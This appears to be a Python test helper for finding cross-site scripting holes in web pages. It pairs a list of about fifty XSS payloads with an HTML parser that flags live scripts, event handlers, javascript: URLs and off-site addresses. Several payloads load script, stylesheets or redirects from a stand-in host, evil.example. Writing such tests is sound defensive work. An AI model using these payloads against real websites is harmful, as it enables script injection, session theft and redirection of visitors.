"""What people type who mean harm, and what of it came to life in a page."""

from html.parser import HTMLParser

MARK = "xss-live"
_RUN = "xssLive()"
# Lines that would do something in some place of a page: between tags, in an attribute, in a script, in a style, in an
# address. Some are broken on purpose, as parsers mend what filters do not know.
LINES = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT><{MARK}>",
    f"</title></textarea></style></script><{MARK}>",
    f'"><{MARK}>',
    f"'><{MARK}>",
    f"--><{MARK}><!--",
    f"]]><{MARK}>",
    f"<{MARK} onclick={_RUN}>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><{MARK}></mtext></math>",
    f"<iframe srcdoc='<{MARK}>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}'>ก</a>",
    f"<form action='javascript:{_RUN}'><button>ก</form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    f'" onfocus={_RUN} autofocus="',
    f"' onmouseover={_RUN} x='",
    f"` onload={_RUN} `",
    f"x onerror={_RUN}",
    '" style="background:url(//evil.example)',
    f"javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}",
    f"data:text/html,<{MARK}>",
    f"&lt;{MARK}&gt;",
    f"&#60;{MARK}&#62;",
    f"\\u003c{MARK}\\u003e",
    f"%3C{MARK}%3E",
    f"＜{MARK}＞",
    f"{{{{ '<{MARK}>'|safe }}}}",
    f"{{% autoescape off %}}<{MARK}>{{% endautoescape %}}",
    f"${{{_RUN}}}",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<{MARK}\u0e34>",
    f"ก\u0e49\u0e49\u0e49<{MARK}>",
    f"\u202e<{MARK}>\u202c",
    f"\ufeff<{MARK}>",
    f"<{MARK}/><!--",
    f"<!--><{MARK}>",
    f"<![CDATA[<{MARK}>]]>",
    f"<?xml version='1.0'?><{MARK}>",
    f"<noscript><p title='</noscript><{MARK}>'>",
    f"</option></select><{MARK}>",
]
_SAFE = {"http", "https", "mailto", "tel", ""}


def filled(length: int, first: int) -> tuple[str, int]:
    """A text of at most `length` characters made of hostile lines, from number `first` on; how many it holds."""
    text, held = "", 0
    for number in range(len(LINES)):
        line = LINES[(first + number) % len(LINES)]
        if len(text) + len(line) + 1 > min(length, 4000):
            continue
        text, held = f"{text}{' ' if text else ''}{line}", held + 1
    return text, held


class Alive(HTMLParser):
    """`found`: what a browser would run, fetch from elsewhere, or take for a tag that we did not write."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        # The preview of a paper: an address of this site, and no document written into the page.
        is_ours = tag == "iframe" and (given.get("src") or "").startswith("/") and "srcdoc" not in given
        if tag.startswith(MARK) or (tag in {"iframe", "object", "embed", "base", "style", "math"} and not is_ours):
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("<meta http-equiv>")
        self._script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or name == "style" or name == "srcdoc":
                self.found.append(f"{name}= in <{tag}>")
            if name in {"href", "src", "action", "formaction", "data", "xlink:href"}:
                self._address(tag, value or "")

    def _address(self, tag: str, value: str) -> None:
        tidy = "".join(value.split()).lower()
        scheme = tidy.partition(":")[0] if ":" in tidy.partition("/")[0] else ""
        if scheme not in _SAFE or (tag != "a" and tidy.startswith(("//", "http"))):
            self.found.append(f"<{tag}> leads to {value[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append(f"a script inside of the page: {data[:60]}")
